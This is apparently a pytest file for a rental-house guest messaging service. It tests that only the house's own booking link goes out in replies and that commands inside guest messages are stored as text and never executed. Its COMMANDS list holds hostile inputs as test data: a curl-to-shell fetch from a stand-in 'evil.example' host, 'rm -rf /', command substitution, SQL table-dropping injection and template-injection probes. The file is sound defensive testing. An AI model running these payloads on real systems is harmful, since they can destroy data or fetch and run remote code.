"""Which links may leave for a guest, and is anything that he writes ever more than words?"""

from __future__ import annotations

import os
import subprocess
from collections.abc import AsyncIterator

import pytest

from domain.guests.modes import SETTING, Mode
from domain.guests.playbook.checks import Around, links
from domain.guests.thread import State
from governance.guests.sending import send_due
from tests.makers import NOW
from tests.rooms.consent.stage import HOME, Stage
from tests.rooms.guests.house import heard, standing, with_door, with_facts

PAGE = "https://villa.example/book"
OURS = Around("en", links=frozenset({PAGE}))
COMMANDS = (
    "$(curl https://evil.example/x | sh)",
    "; rm -rf / #",
    "`touch /tmp/zorgblatt`",
    "'; DROP TABLE guest_messages; --",
    "{{7*7}} ${7*7} %s {name}",
    "/pause",
    "confirmer 1",
)


@pytest.fixture
async def stage(sqlite_url: str) -> AsyncIterator[Stage]:
    async with with_facts(sqlite_url) as stage:
        yield stage


@pytest.mark.parametrize(
    "text", [f"You may book here: {PAGE}", f"{PAGE}.", "We are on Booking.com as well.", "24/7"]
)
def test_the_houses_own_page_leaves(text: str) -> None:
    assert links(text, OURS) is None


@pytest.mark.parametrize(
    "other",
    [
        "https://evil.example/x",
        f"{PAGE}/more",
        "https://villa.example.evil.example/book",
        "HTTPS://EVIL.EXAMPLE/x",
        "www.evil.example",
        "bit.ly/3xYz",
        "evil.example/pay",
        "pay@evil.example",
    ],
)
def test_any_other_is_named_beside_the_houses_own_too(other: str) -> None:
    assert links(f"You may book here: {PAGE} or {other}", OURS) is not None
    assert links(other, Around("en")) is not None


@pytest.mark.parametrize("command", COMMANDS)
async def test_a_command_in_a_guests_words_is_words(
    stage: Stage, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*_: object, **__: object) -> None:
        raise AssertionError("somebody ran it")

    monkeypatch.setattr(subprocess, "Popen", never)
    monkeypatch.setattr(os, "system", never)
    async with stage.store.unit(HOME) as unit:
        await unit.settings.set(SETTING, Mode.ANSWERS.value, by="person:1", at=NOW)
        before = await unit.settings.all()
    door = with_door(stage)
    message = await heard(stage, f"Is there wifi in the house? {command}", name=command[:40])
    stage.clock.pass_(minutes=11)
    await send_due(stage.office, HOME)
    written = [one.text for one in door.given]
    written += [one.text for one in await standing(stage, State.DRAFT, State.QUEUED)]
    assert not [text for text in written if command in text or "evil" in text or "49" in text]
    async with stage.store.reading(HOME) as unit:
        assert await unit.settings.all() == before
        assert (await unit.guest_messages.certain(message.id)).text.endswith(command)
